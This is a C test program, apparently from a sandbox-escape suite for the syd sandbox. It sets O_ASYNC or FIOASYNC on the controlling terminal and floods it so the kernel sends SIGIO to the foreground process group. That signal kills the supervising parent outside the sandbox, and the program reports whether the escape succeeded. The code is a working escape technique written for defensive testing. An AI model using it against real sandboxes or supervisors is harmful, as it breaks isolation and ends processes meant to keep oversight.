/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * SIGIO to the processes outside the sandbox that share its terminal's
 * foreground process group: syd, and the shell that started it. O_ASYNC
 * set on a terminal without an owner (F_SETFL, or FIOASYNC) makes the
 * terminal's foreground group the owner; a write that fills the terminal
 * and drains wakes the writer side, and the kernel sends SIGIO (whose
 * default action ends a process) to the whole group. No F_SETOWN is made.
 *
 * Run by run-esc.sh on a pseudo-terminal (flag "pty"), as the child of a
 * shell in the foreground group. The escape: our parent (natively the
 * shell, under syd syd itself) dies. Without a controlling terminal whose
 * foreground group is ours, the attack cannot be made: unsupported.
 */
#include "esc.h"

int main(int argc, char **argv)
{
	struct esc e;
	char buf[4096];
	pid_t parent = getppid();
	int fd, on = 1, r;
	bool by_ioctl;

	esc_init(&e, argc, argv);
	fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (fd < 0)
		esc_exit(&e, ESC_UNSUPPORTED, "no controlling terminal");
	if (tcgetpgrp(fd) != getpgrp())
		esc_exit(&e, ESC_UNSUPPORTED,
			 "not in the terminal's foreground group");
	/* We are in the group too. */
	signal(SIGIO, SIG_IGN);
	signal(SIGHUP, SIG_IGN);
	/* Each way once: FIOASYNC first, then F_SETFL if it was refused. */
	r = ioctl(fd, FIOASYNC, &on);
	by_ioctl = r == 0;
	if (r < 0) {
		int flags = fcntl(fd, F_GETFL);

		r = flags < 0 ? -1 : fcntl(fd, F_SETFL, flags | O_ASYNC);
	}
	if (r < 0)
		esc_exit(&e, ESC_BLOCKED, "FIOASYNC and F_SETFL O_ASYNC: %s",
			 esc_errname(errno));
	/* Fill the terminal; the reader on the other side drains it. */
	fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
	memset(buf, '.', sizeof(buf));
	for (int i = 0; i < 200 && getppid() == parent; i++)
		if (write(fd, buf, sizeof(buf)) < 0)
			usleep(1000);
	for (int i = 0; i < 40 && getppid() == parent; i++)
		usleep(50 * 1000);
	if (getppid() != parent)
		esc_exit(&e, ESC_ESCAPED,
			 "%s on the terminal: SIGIO ended our parent %d",
			 by_ioctl ? "FIOASYNC" : "F_SETFL O_ASYNC",
			 (int)parent);
	esc_exit(&e, ESC_BLOCKED, "O_ASYNC set (%s), parent %d lives on",
		 by_ioctl ? "FIOASYNC" : "F_SETFL", (int)parent);
}
